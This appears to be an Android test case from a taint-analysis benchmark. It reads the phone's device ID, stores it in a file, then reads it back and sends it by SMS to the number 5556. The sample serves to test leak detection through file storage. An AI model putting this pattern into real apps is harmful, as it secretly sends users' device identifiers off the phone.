package org.brookside.flows;

import android.app.*;
import android.content.*;
import android.database.Cursor;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.util.Log;
import android.view.View;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;

/** To a file, read again in a later callback and sent. */
public class StoredFile extends Case {
    @Override protected void onCreate(Bundle s) {
        super.onCreate(s);
        try (OutputStream o = openFileOutput("id", 0)) { o.write(((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId().getBytes()); } catch (IOException e) { finish(); }
    }
    @Override protected void onResume() {
        super.onResume();
        byte[] b = new byte[32];
        try (InputStream i = openFileInput("id")) { i.read(b); } catch (IOException e) { return; }
        SmsManager.getDefault().sendTextMessage("5556", null, new String(b), null, null);
    }
}
